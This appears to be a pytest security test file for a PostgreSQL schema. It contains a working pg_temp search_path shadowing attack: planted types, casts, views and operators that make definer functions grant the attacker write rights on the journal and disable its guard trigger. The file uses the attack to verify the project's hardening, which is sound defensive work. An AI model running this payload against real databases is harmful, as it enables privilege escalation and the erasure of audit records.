"""The database boundary (issue 17): no oml role runs its own code as the schema owner, and no
role but the owner can rewrite history. docs/data/postgres-schema.md, "Threat model of the
database roles", states the promise; sql/0017_pinned_search_path.sql is the fix.

Everything here is generated from the catalog, not from a hand-kept list:
  * the attacker roles are every LOGIN role named oml_* (oml_app, oml_lakewriter, and the
    reconciler's role once it exists);
  * the targets are every SECURITY DEFINER function and every trigger function in schema oml;
  * the shadows are every type name, relation name and operator each target's body uses.
The attack is the review's (pg_temp types with assignment casts, pg_temp relations with
triggers, pg_temp operators), with a payload that grants its role UPDATE/DELETE/TRUNCATE on the
journal and disables the guard trigger, and that raises a WARNING naming the role it ran as (a
notice reaches the client even when the transaction rolls back). `test_the_attack_harness_...`
shows the same engine takes over a function pinned the old way, so a pass here means something.
"""
import re
import time

import psycopg
import pytest
from psycopg import sql

PIN = "search_path=oml, pg_catalog, pg_temp"
MARK = "oml-boundary-pwned"

# Grammar-level type names (bigint, integer, ...) parse straight to pg_catalog types; they are
# shadowed too, under the internal name, so that the attack covers every type a body can name.
TYPE_ALIASES = {"bigint": "int8", "integer": "int4", "int": "int4", "smallint": "int2", "boolean": "bool",
                "real": "float4", "double": "float8", "decimal": "numeric", "varchar": "varchar",
                "timestamptz": "timestamptz", "timestamp": "timestamp", "interval": "interval"}


# ---- catalog helpers ------------------------------------------------------------------------

def attacker_roles(c):
    return [r[0] for r in c.execute(
        "SELECT rolname FROM pg_roles WHERE rolname LIKE 'oml\\_%' AND rolcanlogin ORDER BY 1").fetchall()]


def role_conn(d, role):
    url = re.sub(r"user=[^&]+", f"user={role}", d.app_url())
    assert f"user={role}" in url, url
    return psycopg.connect(url, autocommit=True)


def wait_for_temp_objects_to_go(c, roles, timeout=30.0):
    """Waits until no temporary relation of `roles` is left. A client's close returns before its
    backend has dropped the session's temporary objects (the attacker's pg_temp tables and their
    triggers), so a snapshot taken at once could still list them."""
    deadline = time.monotonic() + timeout
    while True:
        left = c.execute("SELECT count(*) FROM pg_class r JOIN pg_namespace n ON n.oid = r.relnamespace "
                         "WHERE n.nspname LIKE 'pg\\_temp\\_%%' AND r.relowner::regrole::text = ANY(%s)",
                         (list(roles),)).fetchone()[0]
        if left == 0:
            return
        assert time.monotonic() < deadline, f"{left} temporary relations of {roles} still there"
        time.sleep(0.05)


def boundary_snapshot(c):
    """Everything an escalation would change: ownership and ACLs of the schema, its relations,
    columns, functions and types; triggers and whether they fire; policies and RLS switches;
    the database ACL; role attributes and memberships of every oml role; default privileges."""
    q = {
        "schema": "SELECT nspname, nspowner::regrole::text, nspacl::text FROM pg_namespace WHERE nspname = 'oml'",
        "database": "SELECT datname, datdba::regrole::text, datacl::text FROM pg_database "
                    "WHERE datname = current_database()",
        "relations": "SELECT relname, relkind, relowner::regrole::text, relacl::text, relrowsecurity, "
                     "relforcerowsecurity FROM pg_class WHERE relnamespace = 'oml'::regnamespace ORDER BY 1",
        "columns": "SELECT c.relname, a.attname, a.attacl::text FROM pg_attribute a JOIN pg_class c ON c.oid = a.attrelid "
                   "WHERE c.relnamespace = 'oml'::regnamespace AND a.attacl IS NOT NULL ORDER BY 1, 2",
        "functions": "SELECT oid::regprocedure::text, proowner::regrole::text, proacl::text, prosecdef, "
                     "proconfig::text, md5(prosrc) FROM pg_proc WHERE pronamespace = 'oml'::regnamespace ORDER BY 1",
        "types": "SELECT typname, typowner::regrole::text, typacl::text FROM pg_type "
                 "WHERE typnamespace = 'oml'::regnamespace ORDER BY 1",
        "triggers": "SELECT tgrelid::regclass::text, tgname, tgenabled, tgfoid::regprocedure::text FROM pg_trigger "
                    "WHERE NOT tgisinternal ORDER BY 1, 2",
        "policies": "SELECT polrelid::regclass::text, polname, polcmd, polpermissive, polroles::regrole[]::text, "
                    "pg_get_expr(polqual, polrelid), pg_get_expr(polwithcheck, polrelid) FROM pg_policy ORDER BY 1, 2",
        "roles": "SELECT rolname, rolsuper, rolinherit, rolcreaterole, rolcreatedb, rolcanlogin, rolbypassrls "
                 "FROM pg_roles WHERE rolname LIKE 'oml\\_%' ORDER BY 1",
        "members": "SELECT roleid::regrole::text, member::regrole::text, admin_option FROM pg_auth_members "
                   "WHERE roleid::regrole::text LIKE 'oml\\_%' OR member::regrole::text LIKE 'oml\\_%' ORDER BY 1, 2",
        "default_acl": "SELECT defaclrole::regrole::text, defaclnamespace, defaclobjtype, defaclacl::text "
                       "FROM pg_default_acl ORDER BY 1, 2, 3",
        "casts": "SELECT castsource::regtype::text, casttarget::regtype::text FROM pg_cast c "
                 "JOIN pg_type s ON s.oid = c.castsource JOIN pg_type t ON t.oid = c.casttarget "
                 "WHERE s.typnamespace = 'oml'::regnamespace OR t.typnamespace = 'oml'::regnamespace ORDER BY 1, 2",
    }
    return {k: c.execute(v).fetchall() for k, v in q.items()}


def targets(c):
    """(regprocedure, oid, language, body, is_definer, is_trigger) of every SECURITY DEFINER
    function and trigger function in schema oml."""
    return c.execute(
        "SELECT p.oid::regprocedure::text, p.oid, l.lanname, coalesce(pg_get_function_sqlbody(p.oid), p.prosrc), "
        "       p.prosecdef, p.prorettype = 'trigger'::regtype "
        "FROM pg_proc p JOIN pg_language l ON l.oid = p.prolang "
        "WHERE p.pronamespace = 'oml'::regnamespace AND (p.prosecdef OR p.prorettype = 'trigger'::regtype) "
        "ORDER BY 1").fetchall()


def names_used(c, oid, body):
    """The type names, relation names and operator names a function uses: every word of its body
    that names a type or relation in pg_catalog or oml (and its argument and result types), and
    every operator symbol of its body that names an operator."""
    words = {w.lower() for w in re.findall(r"[A-Za-z_][A-Za-z0-9_]*", body)}
    words |= {TYPE_ALIASES[w] for w in list(words) if w in TYPE_ALIASES}
    sig_types = c.execute(
        "SELECT DISTINCT t.typname FROM pg_proc p, unnest(coalesce(p.proallargtypes, p.proargtypes::oid[]) "
        "  || p.prorettype) AS u(oid) JOIN pg_type t ON t.oid = u.oid WHERE p.oid = %s", (oid,)).fetchall()
    words |= {r[0] for r in sig_types}
    rels = {r[0] for r in c.execute(
        "SELECT relname FROM pg_class WHERE relnamespace IN ('oml'::regnamespace, 'pg_catalog'::regnamespace) "
        "AND relname = ANY(%s)", (sorted(words),)).fetchall()}
    types = {r[0] for r in c.execute(
        "SELECT DISTINCT typname FROM pg_type WHERE typnamespace IN ('oml'::regnamespace, 'pg_catalog'::regnamespace) "
        "AND typname = ANY(%s) AND typrelid = 0", (sorted(words),)).fetchall()}
    symbols = set(re.findall(r"[+\-*/<>=~!@#%^&|`?]+", body))
    if "distinct" in words:
        symbols.add("=")  # IS DISTINCT FROM looks `=` up by name
    ops = c.execute(
        "SELECT DISTINCT o.oprname, 'pg_catalog.' || quote_ident(l.typname), 'pg_catalog.' || quote_ident(r.typname), "
        "       quote_ident(rn.nspname) || '.' || quote_ident(res.typname) "
        "FROM pg_operator o JOIN pg_type l ON l.oid = o.oprleft JOIN pg_type r ON r.oid = o.oprright "
        "JOIN pg_type res ON res.oid = o.oprresult JOIN pg_namespace rn ON rn.oid = res.typnamespace "
        "WHERE o.oprname = ANY(%s) AND o.oprkind = 'b' AND o.oprnamespace = 'pg_catalog'::regnamespace "
        "AND l.typname = ANY(%s) AND r.typname = ANY(%s) AND l.typtype = 'b' AND r.typtype = 'b' "
        "AND l.typnamespace = 'pg_catalog'::regnamespace AND r.typnamespace = 'pg_catalog'::regnamespace",
        (sorted(symbols), sorted(types), sorted(types))).fetchall()
    return types - rels, rels, ops


# ---- the attack -----------------------------------------------------------------------------

PAYLOAD = f"""
CREATE FUNCTION pg_temp.pwn(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
  RAISE WARNING '{MARK}: % as %', what, current_user;
  BEGIN
    EXECUTE format('GRANT UPDATE, DELETE, TRUNCATE ON oml.journal TO %I', session_user);
  EXCEPTION WHEN others THEN NULL; END;
  BEGIN
    EXECUTE 'ALTER TABLE oml.journal DISABLE TRIGGER journal_guard_rows';
  EXCEPTION WHEN others THEN NULL; END;
  RETURN true;
END $f$;
CREATE FUNCTION pg_temp.pwn_trigger() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
  PERFORM pg_temp.pwn(TG_TABLE_NAME || ' ' || TG_OP);
  RETURN NULL;
END $f$;
"""


def qualified_type(su, typname):
    """schema.typname of pg_catalog's or oml's type of that name (oml first), its typtype, or None."""
    return su.execute(
        "SELECT quote_ident(n.nspname) || '.' || quote_ident(t.typname), t.typtype FROM pg_type t "
        "JOIN pg_namespace n ON n.oid = t.typnamespace WHERE t.typname = %s AND n.nspname IN ('pg_catalog', 'oml') "
        "ORDER BY n.nspname = 'oml' DESC LIMIT 1", (typname,)).fetchone()


def plant_type(su, c, typname):
    """pg_temp.<typname> with assignment casts both ways to pg_catalog/oml's type of that name;
    the cast into the shadow runs the payload and keeps the value for the way back."""
    real = qualified_type(su, typname)
    shadow = sql.SQL("pg_temp.{}").format(sql.Identifier(typname))
    c.execute(sql.SQL("CREATE TYPE {} AS ENUM ('a')").format(shadow))
    if real is None or real[1] != "b":
        return  # a pseudo-type (record, trigger, void, ...) takes no cast; the shadow alone is the attack
    realq = sql.SQL(real[0])
    to_f = sql.Identifier("pwn_to_" + typname)
    back_f = sql.Identifier("pwn_back_" + typname)
    key = sql.Literal("pwn." + re.sub(r"[^a-z0-9_]", "_", typname))
    c.execute(sql.SQL(
        "CREATE FUNCTION pg_temp.{to}(v {real}) RETURNS {shadow} LANGUAGE plpgsql "
        "SET search_path = pg_catalog, pg_temp AS $f$ BEGIN "
        "PERFORM pg_temp.pwn({what}); PERFORM pg_catalog.set_config({key}, v::pg_catalog.text, true); "
        "RETURN 'a'; END $f$").format(to=to_f, real=realq, shadow=shadow, key=key,
                                      what=sql.Literal("cast to pg_temp." + typname)))
    c.execute(sql.SQL(
        "CREATE FUNCTION pg_temp.{back}(v {shadow}) RETURNS {real} LANGUAGE sql "
        "SET search_path = pg_catalog, pg_temp AS $f$ SELECT pg_catalog.current_setting({key})::{real} $f$")
        .format(back=back_f, real=realq, shadow=shadow, key=key))
    c.execute(sql.SQL("CREATE CAST ({real} AS {shadow}) WITH FUNCTION pg_temp.{to}({real}) AS ASSIGNMENT")
              .format(real=realq, shadow=shadow, to=to_f))
    c.execute(sql.SQL("CREATE CAST ({shadow} AS {real}) WITH FUNCTION pg_temp.{back}({shadow}) AS ASSIGNMENT")
              .format(real=realq, shadow=shadow, back=back_f))


def plant_relation(su, c, relname):
    """A temporary view named like the relation, with its columns, whose every read runs the
    payload, and an INSTEAD OF trigger that runs it on every write."""
    cols = su.execute(
        "SELECT a.attname, quote_ident(tn.nspname) || '.' || quote_ident(t.typname) "
        "FROM pg_attribute a JOIN pg_class r ON r.oid = a.attrelid JOIN pg_type t ON t.oid = a.atttypid "
        "JOIN pg_namespace tn ON tn.oid = t.typnamespace "
        "WHERE r.relname = %s AND r.relnamespace IN ('oml'::regnamespace, 'pg_catalog'::regnamespace) "
        "AND a.attnum > 0 AND NOT a.attisdropped ORDER BY r.relnamespace = 'oml'::regnamespace DESC, a.attnum",
        (relname,)).fetchall()
    seen, items = set(), []
    for name, typ in cols:
        if name not in seen:
            seen.add(name)
            items.append(sql.SQL("NULL::{} AS {}").format(sql.SQL(typ), sql.Identifier(name)))
    items = items or [sql.SQL("1 AS x")]
    view = sql.SQL("pg_temp.{}").format(sql.Identifier(relname))
    c.execute(sql.SQL("CREATE VIEW {} AS SELECT {} WHERE pg_temp.pwn({})").format(
        view, sql.SQL(", ").join(items), sql.Literal("read of pg_temp." + relname)))
    c.execute(sql.SQL("CREATE TRIGGER pwn INSTEAD OF INSERT OR UPDATE OR DELETE ON {} "
                      "FOR EACH ROW EXECUTE FUNCTION pg_temp.pwn_trigger()").format(view))


def plant_operator(c, op, left, right, result, n):
    """pg_temp.<op>(left, right): the payload, then pg_catalog's operator."""
    fn = sql.Identifier(f"pwn_op_{n}")
    c.execute(sql.SQL(
        "CREATE FUNCTION pg_temp.{fn}(a {l}, b {r}) RETURNS {res} LANGUAGE plpgsql "
        "SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM pg_temp.pwn({what}); "
        "RETURN a OPERATOR(pg_catalog.{op}) b; END $f$").format(
        fn=fn, l=sql.SQL(left), r=sql.SQL(right), res=sql.SQL(result), op=sql.SQL(op),
        what=sql.Literal(f"operator pg_temp.{op}({left}, {right})")))
    c.execute(sql.SQL("CREATE OPERATOR pg_temp.{op} (LEFTARG = {l}, RIGHTARG = {r}, FUNCTION = pg_temp.{fn})").format(
        op=sql.SQL(op), l=sql.SQL(left), r=sql.SQL(right), fn=fn))


ARG_VALUES = {"uuid": "'{tenant}'::pg_catalog.uuid", "text": "'default'::pg_catalog.text",
              "bigint": "1::pg_catalog.int8", "integer": "1::pg_catalog.int4", "bytea": "'\\x00'::pg_catalog.bytea",
              "jsonb": "'{{}}'::pg_catalog.jsonb", "json": "'{{}}'::pg_catalog.json",
              "interval": "'0 seconds'::pg_catalog.interval", "text[]": "'{{}}'::pg_catalog.text[]",
              "boolean": "true::pg_catalog.bool"}


def invocation(su, oid, tenant):
    """SELECT * FROM the function with one plausible value per input argument, fully qualified
    (the attacker's own statements must not pick up the shadows)."""
    name, args = su.execute(
        "SELECT p.oid::regproc::text, coalesce((SELECT array_agg(format_type(t, NULL) ORDER BY i) "
        "  FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY u(t, i)), '{}') FROM pg_proc p WHERE p.oid = %s",
        (oid,)).fetchone()
    vals = [ARG_VALUES[a].format(tenant=tenant) for a in args]
    return f"SELECT * FROM {name}({', '.join(vals)})"


class Notices:
    """The payload's WARNINGs on one connection (delivered even when the transaction rolls back)."""
    def __init__(self, conn):
        self.seen = []
        conn.add_notice_handler(lambda d: self.seen.append(d.message_primary))

    def pwned(self):
        return [m for m in self.seen if MARK in m]


def run_in_tx(c, stmts, commit):
    """Runs statements in one transaction; returns the SQLSTATE of the first failure or None."""
    c.execute("BEGIN")
    try:
        for s in stmts:
            c.execute(s)
    except psycopg.Error as e:
        c.execute("ROLLBACK")
        return e.sqlstate
    c.execute("COMMIT" if commit else "ROLLBACK")
    return None


def attack(d, role, tenant, only=None):
    """As `role`, plants a shadow for every name every target uses, then fires every trigger
    function through its table and calls every definer function the role may execute, in the
    tenant's scope and in the provider's. Returns (the payload's notices, outcomes): outcomes maps
    (function, scope) and (function, table, statement, scope) to the SQLSTATE the call ended with
    (None: it ran to completion), and "planted" to the number of types, relations and operators."""
    outcomes = {}
    with d.su() as su, role_conn(d, role) as c:
        tgs = [t for t in targets(su) if only is None or t[0] in only]
        notices = Notices(c)
        c.execute(PAYLOAD)
        all_types, all_rels, all_ops = set(), set(), set()
        for _, oid, _, body, _, _ in tgs:
            types, rels, ops = names_used(su, oid, body)
            all_types |= types
            all_rels |= rels
            all_ops |= set(ops)
        for t in sorted(all_types):
            plant_type(su, c, t)
        for r in sorted(all_rels):
            plant_relation(su, c, r)
        for n, (op, left, right, result) in enumerate(sorted(all_ops)):
            plant_operator(c, op, left, right, result, n)
        outcomes["planted"] = (len(all_types), len(all_rels), len(all_ops))
        scope = "SELECT pg_catalog.set_config('oml.tenant_id', '{}', true)"
        scopes = [("tenant", scope.format(tenant)), ("provider", scope.format("00000000-0000-0000-0000-000000000000"))]
        # Triggers first: a PL/pgSQL function compiled in this session with the shadows in place
        # would keep them when a definer function fires it as the owner afterwards.
        trigs = su.execute(
            "SELECT t.tgrelid::regclass::text, t.tgfoid::regprocedure::text, "
            "  (SELECT quote_ident(a.attname) FROM pg_attribute a WHERE a.attrelid = t.tgrelid AND a.attnum > 0 "
            "   AND NOT a.attisdropped AND has_column_privilege(%s, t.tgrelid, a.attnum, 'UPDATE') "
            "   ORDER BY a.attnum LIMIT 1) "
            "FROM pg_trigger t JOIN pg_class r ON r.oid = t.tgrelid "
            "WHERE NOT t.tgisinternal AND r.relnamespace = 'oml'::regnamespace ORDER BY 1, 2", (role,)).fetchall()
        for rel, fn, upd_col in trigs:
            if only is not None and fn not in only:
                continue
            rel = rel if rel.startswith("oml.") else "oml." + rel
            dml = [f"INSERT INTO {rel} SELECT * FROM {rel} LIMIT 1", f"DELETE FROM {rel}", f"TRUNCATE {rel}"]
            if upd_col:
                dml.append(f"UPDATE {rel} SET {upd_col} = {upd_col}")
            for s in dml:
                for label, sc in scopes:
                    outcomes[(fn, rel, s, label)] = run_in_tx(c, [sc, s], commit=False)
        for name, oid, _, _, definer, _ in tgs:
            if not definer:
                continue
            if not su.execute("SELECT has_function_privilege(%s, %s::oid, 'EXECUTE')", (role, oid)).fetchone()[0]:
                outcomes[(name, "no-execute")] = "42501"
                continue
            call = invocation(su, oid, tenant)
            for label, sc in scopes:
                outcomes[(name, label)] = run_in_tx(c, [sc, call], commit=True)
        return notices.pwned(), outcomes


# ---- fixtures -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def populated():
    """A deployment with a tenant, a promoted claim, a rejected one and a held one, so the
    definer functions and triggers have rows to work on. The server is stopped afterwards."""
    from conftest import new_deployment
    with new_deployment(prefix="oml-b-") as d:
        d.tenant_id = d.tenant("acme")
        d.writer = d.api_key("acme", "writer", "alice")
        d.reviewer = d.api_key("acme", "reviewer", "rita")
        d.serve()
        claims = [d.submit(d.writer, body=f"claim {i}").json()["artifact_id"] for i in range(3)]
        for art, v in zip(claims[:2], ["accept", "reject"]):
            r = d.post(f"/v1/claims/{art}/verdict", d.reviewer, json={"verdict": v})
            assert r.status_code == 200, r.text
        d.stop_server()
        yield d


# ---- tests ----------------------------------------------------------------------------------

def test_catalog_every_function_pinned_owned_by_a_nologin_owner_and_only_the_owner_may_rewrite_history(populated):
    with populated.su() as c:
        unpinned = c.execute(
            "SELECT p.oid::regprocedure::text, p.prosecdef, p.proconfig::text FROM pg_proc p "
            "WHERE p.pronamespace = 'oml'::regnamespace AND NOT coalesce(p.proconfig @> ARRAY[%s], false) "
            "AND (p.prosecdef OR p.prosqlbody IS NULL) ORDER BY 1", (PIN,)).fetchall()
        assert unpinned == [], "functions without the pinned path (or a SQL-standard body): %r" % unpinned
        # The path is exactly the pinned one, not merely containing it.
        odd = c.execute("SELECT p.oid::regprocedure::text, p.proconfig::text FROM pg_proc p "
                        "WHERE p.pronamespace = 'oml'::regnamespace AND p.proconfig IS NOT NULL "
                        "AND p.proconfig <> ARRAY[%s]", (PIN,)).fetchall()
        assert odd == []
        # SQL-standard bodies (no path at all) are only the two every RLS policy inlines.
        std = c.execute("SELECT p.oid::regprocedure::text FROM pg_proc p WHERE p.pronamespace = 'oml'::regnamespace "
                        "AND p.prosqlbody IS NOT NULL ORDER BY 1").fetchall()
        assert std == [("oml.current_tenant()",), ("oml.provider_tenant()",)]
        owners = c.execute(
            "SELECT DISTINCT r.rolname, r.rolcanlogin FROM pg_proc p JOIN pg_roles r ON r.oid = p.proowner "
            "WHERE p.pronamespace = 'oml'::regnamespace "
            "UNION SELECT DISTINCT r.rolname, r.rolcanlogin FROM pg_class k JOIN pg_roles r ON r.oid = k.relowner "
            "WHERE k.relnamespace = 'oml'::regnamespace "
            "UNION SELECT DISTINCT r.rolname, r.rolcanlogin FROM pg_type t JOIN pg_roles r ON r.oid = t.typowner "
            "WHERE t.typnamespace = 'oml'::regnamespace "
            "UNION SELECT r.rolname, r.rolcanlogin FROM pg_namespace n JOIN pg_roles r ON r.oid = n.nspowner "
            "WHERE n.nspname = 'oml'").fetchall()
        assert owners == [("oml_owner", False)]
        # Who may change the journal: nobody but the owner (and superusers, whom the guard trigger
        # stops). A member of oml_owner is the owner; in this deployment only superusers are. The
        # predefined pg_* roles (pg_write_all_data) hold it by definition: what counts is that no
        # role is their member, which has_table_privilege of each member role shows.
        writers = c.execute(
            "SELECT r.rolname, p.priv FROM pg_roles r, unnest(ARRAY['UPDATE', 'DELETE', 'TRUNCATE']) p(priv) "
            "WHERE r.rolname <> 'oml_owner' AND NOT r.rolsuper AND r.rolname !~ '^pg_' "
            "AND (has_table_privilege(r.oid, 'oml.journal', p.priv) "
            "     OR (p.priv = 'UPDATE' AND has_any_column_privilege(r.oid, 'oml.journal', 'UPDATE'))) "
            "ORDER BY 1, 2").fetchall()
        assert writers == []
        members = c.execute("SELECT m.rolname, m.rolsuper FROM pg_auth_members a JOIN pg_roles m ON m.oid = a.member "
                            "WHERE a.roleid = 'oml_owner'::regrole ORDER BY 1").fetchall()
        assert members and all(sup for _, sup in members), members
        # The attacker roles: not superuser, not BYPASSRLS, may create nothing anywhere, and (after
        # `oml migrate`) not even temporary objects.
        roles = attacker_roles(c)
        assert roles == ["oml_app", "oml_lakewriter", "oml_reconciler"]
        for r in roles:
            row = c.execute("SELECT rolsuper, rolbypassrls, rolcreaterole, rolcreatedb FROM pg_roles WHERE rolname = %s",
                            (r,)).fetchone()
            assert row == (False, False, False, False), (r, row)
            assert c.execute("SELECT has_database_privilege(%s, current_database(), 'CREATE'), "
                             "has_database_privilege(%s, current_database(), 'TEMPORARY')", (r, r)).fetchone() \
                == (False, False), r
            creatable = c.execute("SELECT nspname FROM pg_namespace WHERE has_schema_privilege(%s, oid, 'CREATE') "
                                  "AND nspname NOT LIKE 'pg\\_temp\\_%%' AND nspname NOT LIKE 'pg\\_toast\\_temp\\_%%'",
                                  (r,)).fetchall()
            assert creatable == [], (r, creatable)
        # Every user trigger on an oml table fires (enabled 'O'), the guards among them.
        disabled = c.execute("SELECT tgrelid::regclass::text, tgname, tgenabled FROM pg_trigger t JOIN pg_class k "
                             "ON k.oid = t.tgrelid WHERE k.relnamespace = 'oml'::regnamespace AND NOT t.tgisinternal "
                             "AND t.tgenabled <> 'O'").fetchall()
        assert disabled == []


def test_no_oml_role_can_create_temporary_objects(populated):
    with populated.su() as c:
        roles = attacker_roles(c)
    for role in roles:
        with role_conn(populated, role) as c:
            with pytest.raises(psycopg.errors.InsufficientPrivilege) as e:
                c.execute("CREATE TEMP TABLE t (x int)")
            assert "permission denied to create temporary tables in database" in str(e.value), role


def test_shadowing_attack_against_every_definer_and_trigger_function_as_every_role(populated):
    d = populated
    with d.su() as c:
        roles = attacker_roles(c)
        before = boundary_snapshot(c)
        tgs = targets(c)
        # Defence in depth is what is tested: TEMP is granted back, as on a database whose owner
        # `oml migrate` was not, so the attacker has every tool the review had.
        for r in roles:
            c.execute(sql.SQL("GRANT TEMPORARY ON DATABASE {} TO {}").format(
                sql.Identifier(c.info.dbname), sql.Identifier(r)))
    try:
        assert {t[0] for t in tgs if t[4]} >= {"oml.enqueue_outbox_json(uuid,text,bigint,json)",
                                               "oml.lake_dead_letter_commit(text,bigint,bigint,bigint,bytea,bytea,"
                                               "bytea,bytea,jsonb,text,integer,text[])",
                                               "oml.rejected_retention_due(interval)", "oml.search_claim_text(text)"}
        assert sum(1 for t in tgs if t[5]) == 6  # the trigger functions
        report = {}
        for role in roles:
            pwned, outcomes = attack(d, role, d.tenant_id)
            assert pwned == [], f"{role}: the payload ran: {pwned}"
            report[role] = outcomes
        # The attack was real: it planted dozens of shadows, and the definer functions ran (each
        # role executed some of them to completion with the shadows in place).
        types, rels, ops = report["oml_app"]["planted"]
        assert types >= 10 and rels >= 8 and ops >= 5, report["oml_app"]["planted"]
        app_ok = [k for k, v in report["oml_app"].items() if k != "planted" and len(k) == 2 and v is None]
        assert any("enqueue_outbox_json" in k[0] for k in app_ok), report["oml_app"]
        assert any("search_claim_text" in k[0] for k in app_ok)
        assert any("rejected_retention_due" in k[0] for k in app_ok)
        lw = report["oml_lakewriter"]
        # The lake writer reaches its definer functions: they refuse the made-up lease epoch (42501,
        # raised by the function itself after compiling its body with the shadows present).
        assert lw[("oml.lake_dead_letter_commit(text,bigint,bigint,bigint,bytea,bytea,bytea,bytea,jsonb,text,integer,text[])",
                   "tenant")] == "42501", lw
        assert lw[("oml.lake_dead_letter_begin(text,bigint,bigint)", "tenant")] == "42501", lw
        with d.su() as c:
            for r in roles:
                c.execute(sql.SQL("REVOKE TEMPORARY ON DATABASE {} FROM {}").format(
                    sql.Identifier(c.info.dbname), sql.Identifier(r)))
            wait_for_temp_objects_to_go(c, roles)
            after = boundary_snapshot(c)
        # The outbox rows the calls committed change no privilege; everything else is identical.
        for k in before:
            assert after[k] == before[k], k
    finally:
        with d.su() as c:
            for r in roles:
                c.execute(sql.SQL("REVOKE TEMPORARY ON DATABASE {} FROM {}").format(
                    sql.Identifier(c.info.dbname), sql.Identifier(r)))


def test_the_attack_harness_takes_over_a_function_pinned_the_old_way(deployment):
    """The engine above is worth something only if it wins against the pre-0017 pinning: a definer
    function with `search_path = oml, pg_catalog` (no pg_temp) and an xid8 variable, exactly the
    shape of 0016's enqueue_outbox_json. The payload runs as oml_owner and the journal falls."""
    d = deployment
    tenant = d.tenant("acme")
    with d.su() as c:
        c.execute("SET ROLE oml_owner")
        c.execute("""CREATE FUNCTION oml.zz_canary(p_tenant uuid) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
                     SET search_path = oml, pg_catalog AS $$
                     DECLARE v_xid xid8 := pg_current_xact_id(); BEGIN RETURN 1; END $$""")
        c.execute("REVOKE EXECUTE ON FUNCTION oml.zz_canary(uuid) FROM PUBLIC")
        c.execute("GRANT EXECUTE ON FUNCTION oml.zz_canary(uuid) TO oml_app")
        c.execute("RESET ROLE")
        c.execute(sql.SQL("GRANT TEMPORARY ON DATABASE {} TO oml_app").format(sql.Identifier(c.info.dbname)))
        before = boundary_snapshot(c)
    pwned, outcomes = attack(d, "oml_app", tenant, only={"oml.zz_canary(uuid)"})
    assert any("cast to pg_temp.xid8 as oml_owner" in m for m in pwned), pwned
    with d.su() as c:
        after = boundary_snapshot(c)
        assert c.execute("SELECT has_table_privilege('oml_app', 'oml.journal', 'DELETE'), "
                         "has_table_privilege('oml_app', 'oml.journal', 'TRUNCATE')").fetchone() == (True, True)
        assert c.execute("SELECT tgenabled FROM pg_trigger WHERE tgname = 'journal_guard_rows'").fetchone() == ("D",)
    assert after["relations"] != before["relations"] and after["triggers"] != before["triggers"]


def test_plpgsql_check_finds_nothing_in_any_function(populated):
    """plpgsql_check (Debian's postgresql-15-plpgsql-check, installed by scripts/install-deps.sh)
    over every PL/pgSQL function in oml, trigger functions against each of their tables, with its
    security and extra warnings on."""
    with populated.su() as c:
        avail = c.execute("SELECT count(*) FROM pg_available_extensions WHERE name = 'plpgsql_check'").fetchone()[0]
        assert avail == 1, "plpgsql_check is not installed: run scripts/install-deps.sh"
        c.execute("CREATE EXTENSION IF NOT EXISTS plpgsql_check")
        try:
            # The lint itself works: it reports a deliberately unsafe function.
            c.execute("CREATE SCHEMA lint_probe")
            c.execute("CREATE FUNCTION lint_probe.bad(p text) RETURNS void LANGUAGE plpgsql AS "
                      "$$ BEGIN EXECUTE 'SELECT * FROM ' || p; END $$")
            probe = c.execute("SELECT level, message FROM plpgsql_check_function_tb('lint_probe.bad(text)'::regprocedure, "
                              "security_warnings => true)").fetchall()
            assert probe == [("security", "text type variable is not sanitized")]
            checked = c.execute(
                "SELECT p.oid::regprocedure::text, coalesce(t.tgrelid, 0)::regclass::text FROM pg_proc p "
                "JOIN pg_language l ON l.oid = p.prolang AND l.lanname = 'plpgsql' "
                "LEFT JOIN pg_trigger t ON t.tgfoid = p.oid AND NOT t.tgisinternal "
                "WHERE p.pronamespace = 'oml'::regnamespace ORDER BY 1, 2").fetchall()
            assert len(checked) >= 17
            findings = c.execute(
                "SELECT p.oid::regprocedure::text, r.level, r.sqlstate, r.message, r.lineno FROM pg_proc p "
                "JOIN pg_language l ON l.oid = p.prolang AND l.lanname = 'plpgsql' "
                "LEFT JOIN pg_trigger t ON t.tgfoid = p.oid AND NOT t.tgisinternal "
                "CROSS JOIN LATERAL plpgsql_check_function_tb(p.oid, coalesce(t.tgrelid, 0), "
                "  security_warnings => true, extra_warnings => true, performance_warnings => false) r "
                "WHERE p.pronamespace = 'oml'::regnamespace ORDER BY 1").fetchall()
            assert findings == []
        finally:
            c.execute("DROP SCHEMA IF EXISTS lint_probe CASCADE")
            c.execute("DROP EXTENSION IF EXISTS plpgsql_check")


def test_doctor_reports_a_function_without_the_pinned_path(populated):
    d = populated
    ok = d.run("doctor", check=False)
    assert ("boundary: every oml function pins search_path = oml, pg_catalog, pg_temp; this role cannot create "
            "temporary objects") in ok.stdout, ok.stdout + ok.stderr
    assert "BOUNDARY" not in ok.stdout
    with d.su() as c:
        c.execute("ALTER FUNCTION oml.key_in_force() RESET search_path")
    try:
        bad = d.run("doctor", check=False)
        assert bad.returncode == 3, bad.stdout + bad.stderr
        assert ("BOUNDARY: functions without the pinned search_path (oml, pg_catalog, pg_temp): "
                "oml.key_in_force().") in bad.stdout, bad.stdout
    finally:
        with d.su() as c:
            c.execute("ALTER FUNCTION oml.key_in_force() SET search_path = oml, pg_catalog, pg_temp")
